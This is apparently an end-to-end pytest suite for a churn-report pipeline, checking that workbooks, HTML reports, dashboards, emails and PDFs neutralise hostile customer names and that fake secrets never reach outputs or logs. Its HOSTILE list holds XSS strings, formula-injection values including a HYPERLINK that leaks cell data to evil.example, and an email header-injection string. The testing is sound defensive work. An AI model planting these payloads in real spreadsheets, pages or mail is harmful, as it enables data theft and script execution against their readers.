"""Promise 3 (nothing a reader opens can execute) and "no secrets in artifacts or logs", end to end.

One extra pipeline run: the sample stage's output is rewritten so that the largest customers of every
region (the ones the churn red list always shows) carry hostile names, DVC is told to accept it
(`dvc commit -f sample`), and the rest of the pipeline runs with made-up secrets in the environment.
"""

from __future__ import annotations

import base64
import email
import json
import secrets
import zipfile
from email import policy
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest
from e2e import artifacts, copy_repo, sh
from pypdf import PdfReader

from datastory import io

pytestmark = [pytest.mark.slow, pytest.mark.e2e]

# Most visible first: the riskiest red customers are the ones every report lists.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+1 Holdings",
    "-2+3 Partners",
    "@SUM(1,2) Trading",
    "\t=1+2 Tab Ltd",
    "\r=1+2 CR Ltd",
    "\n=1+2 LF Ltd",
    "Evil\r\nBcc: victim@example.com",
    "W" * 10_000,
    "شركة النور \u202eexe.fdp",
    "Rocket 🚀 GmbH 👩\u200d💻",
]


def _make_hostile(sample: Path, red_ids: list[str]) -> dict[str, str]:
    """Give the red-listed customers hostile names in the sample parquet; customer_id -> raw hostile name.

    The copy's sample is the same seeded company as the session's `built` project (names play no part in
    the scores), so the customers red there, riskiest first, are red here and shown in the reports.
    """
    df = pd.read_parquet(sample)
    names = dict(zip(red_ids, HOSTILE, strict=False))
    df["customer_name"] = df["customer_name"].astype(object)
    hit = df["customer_id"].isin(names)
    df.loc[hit, "customer_name"] = df.loc[hit, "customer_id"].map(names)
    io.write_parquet(df, sample)
    return names


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, built) -> SimpleNamespace:
    built_scores = pd.read_parquet(built / "data/processed/churn_scores.parquet")
    red = built_scores[built_scores["red"]].sort_values(["revenue_at_risk", "customer_id"], ascending=[False, True])
    root = copy_repo(tmp_path_factory.mktemp("hostile"))
    secret = {"DATASTORY_SMTP_USER": f"user-{secrets.token_hex(8)}",
              "DATASTORY_SMTP_PASSWORD": f"pw-{secrets.token_hex(16)}",
              "DATASTORY_DB_PASSWORD": f"db-{secrets.token_hex(16)}"}
    runs = [sh(root, "datastory", "sample", **secret)]
    names = _make_hostile(root / "data/raw/sample/transactions.parquet", list(red["customer_id"]))
    runs.append(sh(root, "dvc", "commit", "-f", "sample", **secret))
    runs.append(sh(root, "dvc", "repro", **secret))
    scores = pd.read_parquet(root / "data/processed/churn_scores.parquet")
    return SimpleNamespace(root=root, names=names, secrets=secret, runs=runs, scores=scores,
                           cleaned=set(scores.loc[scores["customer_id"].isin(names), "customer_name"]))


def test_hostile_customers_reach_the_red_list(hostile):
    red = hostile.scores[hostile.scores["red"] & hostile.scores["customer_id"].isin(hostile.names)]
    assert len(red) >= 10, "the test is vacuous unless hostile names are on the red list"
    # ingest strips surrounding whitespace only; everything else survives to the reports
    assert set(red["customer_name"]) <= {n.strip() for n in hostile.names.values()}
    assert any(n.startswith("=") for n in red["customer_name"])


def _workbooks(root: Path) -> list[Path]:
    return sorted((root / "reports").glob("*/report.xlsx"))


def test_no_formula_in_any_workbook(hostile):
    books = _workbooks(hostile.root)
    assert len(books) >= 5
    for book in books:
        with zipfile.ZipFile(book) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    xml = zf.read(name)
                    assert b"<f>" not in xml and b"<f " not in xml, (book, name)


def test_hostile_names_read_back_exactly_as_strings(hostile):
    found = set()
    for book in _workbooks(hostile.root):
        wb = openpyxl.load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if isinstance(c.value, str) and c.value in hostile.cleaned:
                        assert c.data_type == "s", (book, c.coordinate)
                        found.add(c.value)
    starts = {n[0] for n in found}
    assert {"=", "+", "-", "@", "<"} <= starts, sorted(n[:20] for n in found)
    assert "W" * 10_000 in found


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.handlers, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.handlers += [k for k, _ in attrs if k.lower().startswith("on")]

    def handle_data(self, data):
        self.text.append(data)


def test_html_escapes_hostile_names(hostile):
    shown = 0
    for page in sorted((hostile.root / "reports").glob("*/report.html")):
        html = page.read_text(encoding="utf-8")
        assert "<script" not in html.lower() and "<img src=x" not in html.lower(), page
        parsed = _Tags()
        parsed.feed(html)
        assert "script" not in parsed.tags and not parsed.handlers, page
        text = "".join(parsed.text)
        shown += sum(n in text for n in ("<script>alert(1)</script>", "<img src=x onerror=alert(2)>"))
    assert shown >= 1, "expected the escaped hostile names to be visible as text in some report"


def test_dashboards_keep_hostile_names_as_data(hostile):
    """Each dashboard carries the hostile names only inside its JSON data island (escaped), and they read back
    exactly; no other script, tag or handler comes from them."""
    embedded = set()
    for page in sorted((hostile.root / "reports").glob("*/dashboard.html")):
        html = page.read_text(encoding="utf-8")
        assert "<script>alert(" not in html and "<img src=x" not in html, page
        parsed = _Tags()
        parsed.feed(html)
        assert parsed.tags.count("script") == 3 and not parsed.handlers, page
        start = html.index('<script type="application/json" id="dashboard-data">')
        data = json.loads(html[html.index(">", start) + 1:html.index("</script>", start)])
        embedded |= {c["name"] for c in data["calls"]}
    assert embedded, "expected dashboards with a call list"
    shown = embedded & hostile.cleaned
    assert {"<script>alert(1)</script>", "<img src=x onerror=alert(2)>"} <= shown, sorted(n[:30] for n in shown)


def test_email_headers_are_single_lines(hostile):
    emls = sorted((hostile.root / "reports/outbox").glob("*.eml"))
    assert len(emls) >= 5
    for eml in emls:
        raw = eml.read_bytes()
        head = raw.split(b"\r\n\r\n" if b"\r\n\r\n" in raw else b"\n\n", 1)[0]
        assert b"victim@example.com" not in head, eml
        msg = email.message_from_bytes(raw, policy=policy.default)
        assert not msg.defects, (eml, msg.defects)
        for key, value in msg.items():
            assert "\r" not in str(value) and "\n" not in str(value), (eml, key)
        assert "Bcc" not in msg


def test_pdf_still_renders(hostile):
    for pdf in sorted((hostile.root / "reports").glob("*/report.pdf")):
        reader = PdfReader(pdf)
        assert 1 <= len(reader.pages) <= 60, (pdf, len(reader.pages))
        # pypdf decodes the text of some fallback-font runs (Arabic, emoji) with NULs interleaved
        text = "\n".join(p.extract_text() or "" for p in reader.pages).replace("\x00", "")
        assert "churn" in text.lower(), pdf


def test_no_secret_in_any_output_lock_notebook_or_log(hostile):
    needles = []
    for value in hostile.secrets.values():
        needles += [value.encode(), base64.b64encode(value.encode())]
    files = [*artifacts(hostile.root), hostile.root / "dvc.lock",
             *sorted((hostile.root / ".dvc").rglob("*")), *sorted(hostile.root.glob(".datastory/**/*"))]
    files = [f for f in files if f.is_file()]
    assert any(f.suffix == ".ipynb" for f in files) and any(f.suffix == ".eml" for f in files)
    leaks = [f"{f.relative_to(hostile.root)}" for f in files if any(n in f.read_bytes() for n in needles)]
    for i, res in enumerate(hostile.runs):
        leaks += [f"command {i} {which}" for which, out in (("stdout", res.stdout), ("stderr", res.stderr))
                  if any(n.decode() in out for n in needles)]
    assert not leaks, leaks
